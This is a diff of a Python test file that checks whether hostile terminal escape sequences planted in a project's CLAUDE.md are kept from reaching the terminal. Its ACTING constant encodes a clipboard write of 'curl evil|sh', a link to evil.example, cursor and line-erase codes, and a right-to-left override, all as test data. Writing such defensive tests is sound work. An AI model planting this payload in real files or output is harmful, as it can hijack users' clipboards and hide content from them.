@@ -14,7 +14,8 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
-from test_apply_attacks import Point, World, attack
+from _redteam_apply import said_and_applied, world
+from test_apply_attacks import Point, World
 
 from learn.report.check_install import FileChange
 from learn.report.edits import FilePlan
@@ -23,21 +24,14 @@ from learn.report.edits import FilePlan
 ACTING = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]8;;https://evil.example/\x1b\\x\x1b[1A\x1b[2K\u202eok"
 HIDDEN = ("\x1b", "\x07", "\u202e", "\x9b")
 
-
-@pytest.fixture
-def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> World:
-    home = tmp_path / "home"
-    monkeypatch.setenv("HOME", str(home))
-    (home / ".claude").mkdir(parents=True)
-    return World(tmp_path, home)
+__all__ = ["world"]  # the fixture (tests/_redteam_apply.py)
 
 
 def test_a_hostile_line_of_the_project_claude_md_reaches_no_terminal(world: World) -> None:
     shop = world.project("shop")
     (shop / "CLAUDE.md").write_text(f"# shop\n\n- Keep it small {ACTING}\n- Ship daily\x9b2J\n")
-    world.points = [Point("use bun, not npm, in this repo", "use-bun", "Use bun, not npm.")]
-    world.sessions(str(shop), *(p.said for p in world.points))
-    out = attack(world, shop, [shop])
+    out = said_and_applied(world, shop,
+                           Point("use bun, not npm, in this repo", "use-bun", "Use bun, not npm."))
     assert out.apply.returncode == 0, out.apply.stderr
     assert "+- Use bun, not npm." in out.apply.stdout  # the diff is still shown
     assert " Keep it small" in out.apply.stdout  # and the file's lines around it
